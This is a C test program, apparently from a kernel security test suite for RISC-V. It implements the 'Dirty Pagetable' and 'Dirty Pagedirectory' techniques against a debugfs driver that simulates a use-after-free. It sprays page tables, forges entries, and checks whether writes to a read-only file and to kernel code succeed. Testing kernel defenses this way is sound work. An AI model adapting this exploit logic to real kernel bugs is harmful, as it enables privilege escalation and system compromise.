// SPDX-License-Identifier: BSD-2-Clause
/*
 * Attacks of class P: a driver goes on using memory that it has freed, and the
 * allocator gives that memory to a page table. `Dirty Pagetable`: the freed
 * object's new content is forged entries. `Dirty Pagedirectory`: the page is
 * freed twice, so that it becomes a table of two levels at once; the entry of a
 * 4 KiB page at the lower one is a huge page at the upper one, and shows memory
 * that is not the attacker's. On RISC-V a link is no leaf, so that it takes the
 * first page of 2 MiB.
 *
 * attack_reuse PREFIX: the attacker is whatever it was started as.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

#define REUSE_FILE	"/sys/kernel/debug/nacc_reuse"
#define WORDS		16384		/* of what was freed, at most */
#define TABLES		512		/* sprayed */
#define FEW_TABLES	64
#define SHIFT(level)	(12 + 9 * (level))
#define SIZE(level)	(1UL << SHIFT(level))
#define HUGE		SIZE(1)
#define PAGES		16384UL		/* one of them begins 2 MiB */
#define INDEX		9UL
#define FILE_BYTES	(64UL << 20)
#define LEAF		(PTE_V | PTE_R | PTE_W | PTE_U | PTE_A | PTE_D)

static uint64_t freed[WORDS];
static char *region[TABLES];	/* each has a page at its begin */
static int reuse_fd;
static sigjmp_buf fault;
static const char *prefix;

static void result(const char *what, const char *outcome)
{
	char name[64];

	snprintf(name, sizeof(name), "%s-%s", prefix, what);
	attack_result(name, outcome);
}

static void on_fault(int sig)
{
	(void)sig;
	siglongjmp(fault, 1);
}

/* The file stays open: nothing else should take the page that was freed. */
static void __attribute__((format(printf, 1, 2))) reuse(const char *fmt, ...)
{
	va_list args;
	char text[64];

	va_start(args, fmt);
	vsnprintf(text, sizeof(text), fmt, args);
	va_end(args);
	if (write(reuse_fd, text, strlen(text)) < 0)
		tap_bail("nacc_reuse: %s: %s", text, strerror(errno));
}

static size_t freed_read(void)
{
	ssize_t got = pread(reuse_fd, freed, sizeof(freed), 0);

	if (got < 0)
		tap_bail("nacc_reuse: %s", strerror(errno));
	return (size_t)got / sizeof(freed[0]);
}

/* The entry of @level that maps @at, as it is in the true table. */
static uint64_t true_entry(const char *at, int level)
{
	struct poke walk;

	attack_walk(getpid(), (uintptr_t)at, &walk);
	return walk.level[walk.levels - 1 - level].entry;
}

/* Address space of the size of one entry above @level, aligned to it. */
static char *reserve(int level)
{
	size_t size = SIZE(level + 1);
	char *at = mmap(NULL, 2 * size, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (at == MAP_FAILED)
		tap_bail("mmap: %s", strerror(errno));
	at = (char *)(((uintptr_t)at + size - 1) & ~(size - 1));
	madvise(at, size, MADV_NOHUGEPAGE);
	return at;
}

static void regions_reserve(int level, unsigned int tables)
{
	unsigned int i;

	for (i = 0; i < tables; i++)
		region[i] = reserve(level);
}

/*
 * New tables until one of them is what was freed. Returns the word that its
 * first entry is, or -1; *@which is the region that it maps.
 */
static long spray(int level, unsigned int tables, unsigned int *which)
{
	size_t words, i;

	for (*which = 0; *which < tables; ++*which) {
		uint64_t entry;

		region[*which][0] = 1;
		entry = true_entry(region[*which], level);
		words = freed_read();
		for (i = 0; i < words; i += PAGE / 8 / 8)
			if (freed[i] == entry)
				return (long)i;
	}
	return -1;
}

static char *file_make(const char *path, size_t bytes)
{
	int fd = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0444);
	static char page[PAGE] = "original";
	char *at;
	size_t i;

	for (i = 0; i < bytes; i += PAGE)
		if (write(fd, page, PAGE) != (ssize_t)PAGE)
			tap_bail("%s: %s", path, strerror(errno));
	close(fd);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	at = mmap(NULL, bytes, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 0);
	close(fd);
	if (at == MAP_FAILED)
		tap_bail("%s: %s", path, strerror(errno));
	return at;
}

static bool file_is_forged(const char *path, size_t bytes)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	char text[8];
	bool forged = false;
	size_t at;

	for (at = 0; at < bytes && !forged; at += PAGE)
		forged = pread(fd, text, sizeof(text), (off_t)at) ==
			 sizeof(text) && !memcmp(text, "forged", 6);
	close(fd);
	return forged;
}

/* Through a forged entry at @at: a page of a file that nobody may write. */
static const char *over_file(volatile char *at, long word)
{
	char *page = file_make("/tmp/readonly", PAGE);

	reuse("put %ld 0x%lx", word, pte_at(attack_pa(page), LEAF));
	attack_flush();
	if (sigsetjmp(fault, 1))
		return "faults";
	memcpy((char *)at, "forged", 6);
	return file_is_forged("/tmp/readonly", PAGE) ? "works" : "is lost";
}

static uint64_t kernel_text(void)
{
	unsigned long start;
	char line[128];
	FILE *iomem = fopen("/proc/iomem", "re");

	while (iomem && fgets(line, sizeof(line), iomem))
		if (strstr(line, "Kernel code") && sscanf(line, "%lx", &start) == 1) {
			fclose(iomem);
			return start & ~(PAGE - 1);
		}
	tap_bail("/proc/iomem names no kernel code");
}

/* And kernel code, which is stored as it was. */
static const char *over_kernel(volatile char *at, long word)
{
	volatile uint32_t *text = (volatile uint32_t *)at;

	reuse("put %ld 0x%lx", word, pte_at(kernel_text(), LEAF));
	attack_flush();
	if (sigsetjmp(fault, 1))
		return "faults";
	text[0] = text[0];
	return text[0] ? "works" : "is lost";
}

static void dirty_pagetable(void)
{
	unsigned int which;
	long word;

	regions_reserve(0, TABLES);
	reuse("slab");
	word = spray(0, TABLES, &which);
	if (word < 0) {
		result("pagetable-file", "no table");
		result("pagetable-kernel", "no table");
		return;
	}
	result("pagetable-file", over_file(region[which] + PAGE, word + 1));
	result("pagetable-kernel", over_kernel(region[which] + PAGE, word + 1));
	reuse("put %ld 0", word + 1);
	attack_flush();
}

/* A page of ours that begins 2 MiB, whose neighbours are given back. */
static char *first_of_huge(void)
{
	char *pages = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	size_t i;

	if (pages == MAP_FAILED)
		tap_bail("mmap: %s", strerror(errno));
	madvise(pages, PAGES * PAGE, MADV_NOHUGEPAGE);
	for (i = 0; i < PAGES; i++)
		pages[i * PAGE] = 1;
	for (i = 0; i < PAGES; i++)
		if (!(attack_pa(pages + i * PAGE) & (HUGE - 1)))
			break;
	if (i == PAGES)
		tap_bail("no page begins 2 MiB");
	munmap(pages, i * PAGE);
	munmap(pages + (i + 1) * PAGE, (PAGES - i - 1) * PAGE);
	return pages + i * PAGE;
}

/* The lower table's entry for @page is the upper one's for 2 MiB at @window. */
static const char *through_window(char *page, char *place, volatile char *window)
{
	size_t at;

	if (mremap(page, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, place) != place)
		return "cannot be placed";
	attack_flush();
	file_make("/tmp/readonly", FILE_BYTES);
	if (sigsetjmp(fault, 1))
		return "faults";
	for (at = PAGE; at < HUGE; at += PAGE)
		if (!memcmp((char *)window + at, "original", 8))
			memcpy((char *)window + at, "forged", 6);
	return file_is_forged("/tmp/readonly", FILE_BYTES) ? "works" : "is lost";
}

static const char *pagedirectory(int level)
{
	unsigned long upper = 0, place = 0;
	unsigned int which;
	char *page = first_of_huge(), *above = reserve(level + 1);
	long word;
	int i;

	regions_reserve(level, FEW_TABLES);
	reuse("pages");
	word = spray(level, FEW_TABLES, &which);
	if (word < 0)
		return "no table";
	reuse("free %ld", word);
	above[0] = 1;
	freed_read();
	if (freed[word] != true_entry(above, level + 1))
		return "no second table";
	for (i = 0; i <= level; i++) {
		place += INDEX << SHIFT(i);
		upper += INDEX << SHIFT(i + 1);
	}
	return through_window(page, region[which] + place, above + upper);
}

/* Where it works, the tables are such that nobody should take them down. */
static void pagedirectory_child(const char *what, int level)
{
	int ends[2];
	char done;
	pid_t pid;

	fflush(stdout);
	if (pipe(ends))
		tap_bail("pipe: %s", strerror(errno));
	pid = fork();
	if (pid < 0)
		tap_bail("fork: %s", strerror(errno));
	if (!pid) {
		const char *outcome = pagedirectory(level);

		result(what, outcome);
		close(ends[0]);
		close(ends[1]);
		if (!strcmp(outcome, "no table"))
			_exit(0);
		for (;;)
			pause();
	}
	close(ends[1]);
	if (read(ends[0], &done, 1))
		tap_bail("the child writes?");
	close(ends[0]);
}

int main(int argc, char **argv)
{
	struct sigaction action = { .sa_handler = on_fault };

	prefix = argc == 2 ? argv[1] : "dirty";
	sigaction(SIGSEGV, &action, NULL);
	sigaction(SIGBUS, &action, NULL);
	attack_pin();
	reuse_fd = open(REUSE_FILE, O_RDWR | O_CLOEXEC);
	if (reuse_fd < 0)
		tap_bail("nacc_reuse: %s", strerror(errno));
	dirty_pagetable();
	pagedirectory_child("pagedirectory", 0);
	pagedirectory_child("pagedirectory-pud", 1);
	return 0;
}
